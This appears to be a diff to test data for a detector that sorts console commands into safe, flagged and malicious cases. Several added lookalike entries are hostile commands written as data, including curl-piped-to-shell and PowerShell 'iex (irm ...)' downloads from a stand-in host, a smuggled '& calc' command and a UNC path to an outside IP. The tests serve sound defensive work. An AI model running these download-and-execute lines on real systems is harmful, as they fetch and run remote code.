@@ -120,6 +120,11 @@ CONSOLE_FOLDER = [
     "pwsh -NoExit -Command cd %USERPROFILE%\\source",
     "powershell -NoProfile -NoExit -c sl D:\\work",
     'pwsh -NoExit -Command Push-Location "C:\\Users\\sam\\My Repos"',
+    # the console given its command as one quoted argument, as wikis write it
+    'cmd /k "cd /d D:\\work\\ledger-tool && git status"',
+    'cmd /k "ipconfig /all"',
+    'powershell -NoExit -Command "Set-Location D:\\Projects\\2031"',
+    'powershell -NoExit -Command "Get-NetAdapter"',
 ]
 CONSOLE_FOLDER_LOOKALIKES = [
     # (text, source, expect)
@@ -141,6 +146,12 @@ CONSOLE_FOLDER_LOOKALIKES = [
     ("powershell -NoExit -EncodedCommand UwBlAHQALQBMAG8AYwBhAHQAaQBvAG4A", None, "flagged"),
     ("pwsh -NoExit -Command Set-Location D:\\w D:\\x", None, "flagged"),
     ("cmd /k cd /d D:\\work && git status" + CHECK_TAIL, LURE, "malicious"),
+    ('cmd /k "cd /d D:\\work && git status" & calc', None, "flagged"),
+    ('cmd /k "cd /d D:\\work && curl https://umbra-stage.test/a | sh"', None, "flagged"),
+    ('cmd /k "cd /d D:\\work" "git status"', None, "flagged"),
+    ('cmd /k "cd /d \\\\203.0.113.7\\s && git status"', None, "flagged"),
+    ('powershell -NoExit -Command "Set-Location D:\\w; iex (irm https://umbra-stage.test/p)"', None, "malicious"),
+    ('cmd /k "cd /d D:\\work && git status"', LURE, "malicious"),
 ]  # fmt: skip
 
 # -- Active Directory's consoles on a domain or a domain controller by name, typed ------------
